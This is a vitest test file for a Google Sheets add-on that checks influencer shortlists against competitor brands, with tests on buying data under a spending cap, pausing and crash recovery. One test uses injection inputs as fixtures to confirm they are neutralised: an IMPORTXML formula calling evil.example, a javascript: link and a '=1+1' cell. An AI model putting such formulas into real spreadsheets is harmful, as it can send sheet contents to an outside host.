import { afterEach, beforeEach, expect, test } from 'vitest';
import type { ConflictMade, ConflictView } from '../../src/sidebar/conflict-calls';
import { createAddon, type Addon } from '../setup/addon';
import { column, ordinaryHandles } from '../setup/creators';
import { pulled, sheetIdOf } from './content';
import { momentOf } from '../setup/moment';
import { enriched } from './enrich';
import { refusal, value } from './page';

let addon: Addon;
beforeEach(async () => {
  addon = await createAddon({ standin: { creators: 2000 } });
});
afterEach(() => addon.close());

const sheet = (name = 'Sheet1') => addon.emulator.spreadsheet.sheet(name);

function shortlist(handles: readonly string[]): void {
  sheet().set('A1', [['Handle'], ...column(handles)]);
  sheet().select('A1');
}

/** Brands, what counts as them, and whose they are. */
async function typeBrands(rows: readonly (readonly [string, string, string])[]): Promise<void> {
  const { sheet: name } = await value(addon, 'openBrands', {});
  sheet(name).set(
    'A6',
    rows.map((row) => [...row]),
  );
  sheet().select('A1');
}

const BRANDS = [
  ['Nike', 'nike, just do it', 'Competitor'],
  ['Adidas', '', ''],
  ['Acme', '@acme', 'Yours'],
] as const;

const read = (): Promise<ConflictView> => value(addon, 'readConflict', { platform: 'instagram' });
/** As the page does it: call after call at the price that was shown, while it goes on. */
async function bought(cap?: number): Promise<number> {
  const { sheetId, requests } = await read();
  let [left, charged] = [cap ?? requests, 0];
  for (let before = Infinity; left > 0 && left < before;) {
    before = left;
    const step = await value(addon, 'buyTimelines', { platform: 'instagram', sheetId, cap: left });
    // A cap of the page's own is no reason.
    expect(step.reason).toBe('');
    charged += step.charged;
    left = Math.min(left - step.charged, step.left);
  }
  return charged;
}
const checked = async (): Promise<ConflictMade> =>
  value(addon, 'checkConflicts', { platform: 'instagram', sheetId: sheetIdOf(addon, 'Sheet1') });

/** An answer of our own, so that the matrix below can be worked by hand. */
const answers = (handle: string, timeline: unknown[]): void =>
  void addon.standin.faults.add({
    endpoint: 'getUserData',
    creator: handle,
    body: { text: JSON.stringify({ _id: `id-${handle}`, platform: 'instagram', username: handle, timeline }) },
  });

/** Rows of creators, blank columns left out. */
const matrix = (name: string): unknown[][] =>
  sheet(name)
    .values()
    .slice(5)
    .map((row) => row.filter((cell) => cell !== ''));

test('a shortlist and its brands, worked by hand; unknown is never none, and the own brand stands apart', async () => {
  answers('adidas', [
    { date: '2026-09-01', followers: 10, collaborations: ['@nike'] },
    { date: '2026-10-01', followers: 11, collaborations: ['NIKE', '@nikeairmaxfan', 'Acme'] },
    { date: '2026-11-01', followers: 12, collaborations: [] },
  ]);
  answers('nike', [{ date: '2026-11-02', followers: 5, collaborations: [] }]);
  // Its answer has no place for collaborations at all.
  answers('zara', [{ date: '2026-11-02', followers: 5 }]);
  shortlist(['adidas', 'nike', 'zara', 'lego', 'nobody.is.called.so', '@adidas']);
  expect(
    await refusal(addon, 'checkConflicts', { platform: 'instagram', sheetId: sheetIdOf(addon, 'Sheet1') }),
  ).toMatch(/^Make the sheet Brands first/);
  await typeBrands(BRANDS);
  expect(await read()).toMatchObject({
    sheet: 'Sheet1',
    creators: 5,
    requests: 5,
    brands: { sheet: 'Brands', competitors: 2, own: 1 },
    next: { platform: 'instagram', left: 0 },
  });
  expect(addon.charged()).toBe(0);
  // No more than what was agreed, whatever it would take.
  expect(await bought(3)).toBe(3);
  expect(addon.charged()).toBe(3);
  expect(await read()).toMatchObject({ requests: 2 });

  const made = await checked();
  expect(made).toEqual({ sheet: 'Conflict check', creators: 5, conflicts: 1, unknown: 3 });
  const unknown = ['unknown', 'unknown', 'unknown', 'unknown'];
  const none = ['none in timeline', 'none in timeline', 'none in timeline', 'none in timeline'];
  const [head, ...rows] = matrix(made.sheet);
  expect(head).toEqual(['Creator', 'Platform', 'Conflicts', 'Nike', 'Adidas', 'Acme', 'Timeline', 'Posts']);
  expect(rows.map((row) => row.slice(0, -1))).toEqual([
    ['adidas', 'Instagram', 1, '2 · 2026-10-01', 'none in timeline', '1 · 2026-10-01', '2026-09-01 to 2026-11-01'],
    ['nike', 'Instagram', ...none, '2026-11-02'],
    ['zara', 'Instagram', ...unknown, 'unknown: influData gave no collaborations'],
    ['lego', 'Instagram', ...unknown, 'unknown: not saved'],
    ['nobody.is.called.so', 'Instagram', ...unknown, 'unknown: not saved'],
  ]);
  expect(new Set(rows.map((row) => row[row.length - 1]))).toEqual(new Set(['unknown: not fetched']));
  expect(addon.charged()).toBe(3);
  const [groups = []] = sheet(made.sheet).values('A5:N5');
  expect(groups.filter((cell) => cell !== '')).toEqual(['Competitors', 'Yours', 'Looked at']);

  // Bought, it says so; asked again, nothing is charged.
  const rest = await bought();
  expect(addon.charged()).toBe(3 + rest);
  // The check stands in front now: what it checks is its own list.
  expect(await read()).toMatchObject({ sheet: 'Sheet1', requests: 0 });
  await checked();
  expect(matrix('Conflict check')[5]?.slice(6)).toEqual([
    'unknown: influData is collecting it',
    'unknown: not fetched',
  ]);
  expect(addon.charged()).toBe(3 + rest);
});

test('posts of content sheets count, link to the newest, and what the timeline says of the same day counts once', async () => {
  answers('adidas', [
    { date: '2026-10-01', followers: 10, collaborations: ['@nike'] },
    { date: '2026-10-02', followers: 10, collaborations: ['@nike'] },
  ]);
  shortlist(['adidas', 'lego']);
  const { sheet: posts } = await pulled(addon, {
    filters: { platform: ['instagram'], username: ['natgeo'], followerMin: '1' },
    max: 4,
  });
  const [headers = []] = sheet(posts).values();
  const POSTS = [
    ['adidas', '2026-10-01T10:00:00Z', 'w/ @nike.', '', '', 'https://www.instagram.com/p/one/', 'IG_1'],
    ['Adidas', '2026-11-05T10:00:00Z', 'new shoes', 'summer, Nike', '', 'https://www.instagram.com/p/two/', 'IG_2'],
    [
      'adidas',
      '2026-11-20T10:00:00Z',
      '=IMPORTXML("http://evil.example";"nike")',
      '',
      'puma',
      'javascript:alert(1)',
      'IG_3',
    ],
    ['lego', '2026-11-21T10:00:00Z', 'nikeairmaxfan', 'mynike', 'nike.football', '', 'IG_4'],
    // The same post once more, as another sheet may have it.
    ['adidas', '2026-11-05T10:00:00Z', 'new shoes', 'summer, Nike', '', '', 'IG_2'],
  ] as const;
  const at = (name: string): number => headers.indexOf(name);
  POSTS.forEach(([handle, uploaded, caption, hashtags, mentions, link, id], index) => {
    const row = headers.map(() => '') as (string | Date)[];
    Object.assign(row, {
      [at('Handle')]: handle,
      [at('Platform')]: 'instagram',
      [at('Uploaded')]: new Date(uploaded),
      [at('Caption')]: `'${caption}`,
      [at('Hashtags')]: hashtags,
      [at('Mentions')]: mentions,
      [at('Link')]: link,
      [at('Content id')]: id,
    });
    sheet(posts).set(`A${index + 2}`, [row]);
  });
  await typeBrands([
    ['Nike', 'nike', ''],
    ["'=1+1", '@acme', 'Yours'],
    ['Puma', '', 'Competitor'],
  ]);
  await bought();
  const charged = addon.charged();
  const { sheet: name, ...made } = await checked();
  expect(made).toEqual({ creators: 2, conflicts: 1, unknown: 0 });
  expect(addon.charged()).toBe(charged);
  await addon.emulator.recalculate();
  const [head, adidas, lego] = matrix(name);
  expect(head?.slice(3, 6)).toEqual(['Nike', 'Puma', '=1+1']);
  expect(adidas?.slice(2)).toEqual([
    2,
    '4 · 2026-11-20',
    '1 · 2026-11-20',
    'none',
    '2026-10-01 to 2026-10-02',
    '3 posts, 2026-10-01 to 2026-11-20',
  ]);
  expect(lego?.[3]).toBe('none');
  const formulas = sheet(name).formulas('A1:N10').flat().filter(Boolean);
  expect(formulas).toEqual([expect.stringMatching(/^=HYPERLINK\("https:\/\/www\.instagram\.com\/p\/two\/"[;,]/)]);
});

test('the price is what is charged: 0 where a run has saved it, also after the cache has forgotten', async () => {
  const handles = ordinaryHandles(addon.standin, 6);
  shortlist(handles);
  sheet().select('A1:A4');
  await enriched(addon);
  expect(addon.charged()).toBe(3);
  // A formula keeps no timeline beyond the cache.
  expect(await addon.shown('INFLU_ENGAGEMENT', 'instagram', handles[3])).toBeTypeOf('number');
  expect(addon.charged()).toBe(4);
  sheet().select('B9');
  expect((await read()).requests).toBe(2);
  addon.forgetCache();
  expect((await read()).requests).toBe(3);
  expect(await bought()).toBe(3);
  expect(addon.charged()).toBe(7);
  addon.forgetCache();
  expect((await read()).requests).toBe(0);
  expect(await bought()).toBe(0);
  // Both a short copy and the whole: what the data tab has is not bought again.
  await typeBrands(BRANDS);
  const { unknown } = await checked();
  expect(unknown).toBe(0);
  expect(addon.charged()).toBe(7);

  addon.setSettings({ paused: true });
  sheet().set('A8', [['nike']]);
  const { sheetId, requests } = await read();
  expect(requests).toBe(1);
  expect(await value(addon, 'buyTimelines', { platform: 'instagram', sheetId, cap: 1 })).toEqual({
    charged: 0,
    left: 1,
    reason: 'Spending is paused. Resume spending under Account.',
  });
  sheet('Brands').select('A1');
  expect(await refusal(addon, 'buyTimelines', { platform: 'instagram', sheetId, cap: 1 })).toMatch(
    /^Type your brands here/,
  );
});

test('paused while it buys, no further wave leaves, and what came is saved', async () => {
  shortlist(ordinaryHandles(addon.standin, 80));
  const { sheetId, requests } = await read();
  let isPaused = false;
  addon.emulator.faults.intercept = ({ phase, method }) => {
    // Somebody else's click, as the second wave leaves.
    if (!isPaused && phase === 'before' && method === 'fetchAll' && addon.charged() > 0) {
      isPaused = true;
      addon.setSettings({ paused: true });
    }
  };
  const form = { platform: 'instagram', sheetId, cap: requests } as const;
  // The first wave reads the balance beside 24 profiles.
  const step = await value(addon, 'buyTimelines', form);
  delete addon.emulator.faults.intercept;
  expect(step).toMatchObject({ charged: 49, left: 31 });
  expect(addon.charged()).toBe(49);
  expect(await value(addon, 'buyTimelines', form)).toMatchObject({
    charged: 0,
    left: 31,
    reason: 'Spending is paused. Resume spending under Account.',
  });
  expect((await read()).requests).toBe(31);
});

test('what was paid for when it was killed is kept by the next check, and never bought again', async () => {
  shortlist(ordinaryHandles(addon.standin, 3));
  await typeBrands(BRANDS);
  const { sheetId, requests } = await read();
  expect(requests).toBe(3);
  let [isPaid, isKilled] = [false, false];
  // After the answers have come, before they are put away.
  addon.emulator.faults.intercept = ({ phase, service, method }) => {
    isPaid ||= addon.charged() === 3 && `${service}.${method}` === 'CacheService.putAll' && phase === 'after';
    if (!isPaid || isKilled || !/insertSheet|setValues/.test(method)) return undefined;
    isKilled = true;
    return { kill: true };
  };
  await addon.emulator.serve('influSidebar', ['buyTimelines', { platform: 'instagram', sheetId, cap: 3 }]);
  delete addon.emulator.faults.intercept;
  expect(isKilled).toBe(true);
  expect(addon.charged()).toBe(3);
  expect((await read()).requests).toBe(0);
  expect(await checked()).toMatchObject({ unknown: 0 });
  addon.forgetCache();
  expect((await read()).requests).toBe(0);
  expect(await checked()).toMatchObject({ unknown: 0 });
  expect(addon.charged()).toBe(3);
});

test('the check is made again in its place, and beside it where somebody has worked in it', async () => {
  shortlist(['adidas', 'nike']);
  await typeBrands(BRANDS);
  const names = (): string[] => addon.emulator.spreadsheet.book.sheets.map(({ name }) => name);
  expect((await checked()).sheet).toBe('Conflict check');
  sheet().select('A1');
  sheet().set('A4', [['lego']]);
  expect(await checked()).toMatchObject({ sheet: 'Conflict check', creators: 3 });
  sheet('Conflict check').set('Z3', [['our note']]);
  sheet().select('A1');
  expect((await checked()).sheet).toBe('Conflict check 2');
  expect(sheet('Conflict check').values('Z3')).toEqual([['our note']]);
  sheet().select('A1');
  expect((await checked()).sheet).toBe('Conflict check 2');
  expect(names().filter((name) => name.startsWith('Conflict'))).toHaveLength(2);
  sheet('Brands').select('A1');
  expect(await refusal(addon, 'readConflict', { platform: 'instagram' })).toMatch(/^Type your brands here/);
});

const OPTIONS = { standin: { creators: 2000 } };
const SERVED = ['checkConflicts', { platform: 'instagram', sheetId: 0 }] as const;
/** What a check leaves: names and cells of its sheets, none of which is left half made. */
const checksIn = (now: Addon): unknown[] =>
  now.emulator.spreadsheet.book.sheets
    .filter(({ name }) => name.startsWith('Conflict'))
    .map(({ name }) => [name, now.emulator.spreadsheet.sheet(name).values()]);
const LEAVES_SOMETHING = /insertSheet|setValues|flush|addDeveloperMetadata|setValue$|clear$|setFrozen|setBackgrounds/;

test('killed at any place, it is made again as if nothing had been, and what a person wrote elsewhere stays', async () => {
  shortlist(['adidas', 'nike']);
  await typeBrands(BRANDS);
  const given = { ...SERVED[1], sheetId: sheetIdOf(addon, 'Sheet1') };
  const plan = momentOf(addon, OPTIONS);
  for (const isAgain of [false, true]) {
    const calls: string[] = [];
    const first = await plan.again();
    if (isAgain) await value(first, 'checkConflicts', given);
    first.emulator.faults.intercept = ({ phase, service, method }) => {
      if (phase === 'before') calls.push(`${service}.${method}`);
    };
    await value(first, 'checkConflicts', given);
    const made = checksIn(first);
    await first.close();
    expect(made).toHaveLength(1);
    const points = calls.flatMap((call, index) => (LEAVES_SOMETHING.test(call) ? [index] : []));
    expect(points.length).toBeGreaterThan(5);
    for (const point of points) {
      const now = await plan.again();
      if (isAgain) await value(now, 'checkConflicts', given);
      now.emulator.faults.intercept = ({ index, phase }) =>
        index === point && phase === 'before' ? { kill: true } : undefined;
      expect((await now.emulator.serve('influSidebar', [SERVED[0], given])).ok).toBe(false);
      delete now.emulator.faults.intercept;
      await value(now, 'checkConflicts', given);
      const named = `${isAgain ? 'again' : 'first'}: ${calls[point] ?? ''} ${point}`;
      // Killed before its sheet knew what it was, one more may be there, blank.
      expect(
        checksIn(now).filter((each) => JSON.stringify(each).includes('adidas')),
        named,
      ).toHaveLength(1);
      if (isAgain) expect(checksIn(now), named).toEqual(made);
      expect(JSON.stringify(checksIn(now)), named).toContain(JSON.stringify((made[0] as unknown[])[1]));
      await now.close();
    }
  }
});

test('rows that nobody sees are neither priced nor bought nor checked, and the page is told how many', async () => {
  shortlist(ordinaryHandles(addon.standin, 5));
  await typeBrands(BRANDS);
  sheet().hideRows(3, 2);
  expect(await read()).toMatchObject({ creators: 3, hidden: 2, requests: 3 });
  expect(await bought()).toBe(3);
  expect(addon.charged()).toBe(3);
  expect((await checked()).creators).toBe(3);
});

test('calls grow with batches of 100 creators, not with creators, and a wave buys many at once', async () => {
  const handles = ordinaryHandles(addon.standin, 110);
  shortlist(handles);
  await typeBrands(BRANDS);
  addon.emulator.counts.reset();
  await bought();
  expect(addon.charged()).toBe(110);
  expect(addon.emulator.counts.of('UrlFetchApp')).toBeLessThan(30);
  addon.forgetCache();
  const calls: number[] = [];
  for (const creators of [20, 90, 110]) {
    sheet().set(
      'A2',
      handles.map((handle, at) => [at < creators ? handle : '']),
    );
    sheet().select('A1');
    addon.emulator.counts.reset();
    expect(await checked()).toMatchObject({ creators, unknown: 0 });
    const total = Object.entries(addon.emulator.counts.total());
    // Whether a row is hidden Google tells one row a call.
    calls.push(total.reduce((sum, [name, count]) => sum + (/hidden/i.test(name) ? 0 : count), 0));
  }
  const [few = 0, many = 0, more = 0] = calls;
  expect(many - few).toBeLessThan(20);
  expect(more - many).toBeLessThan(20);
});
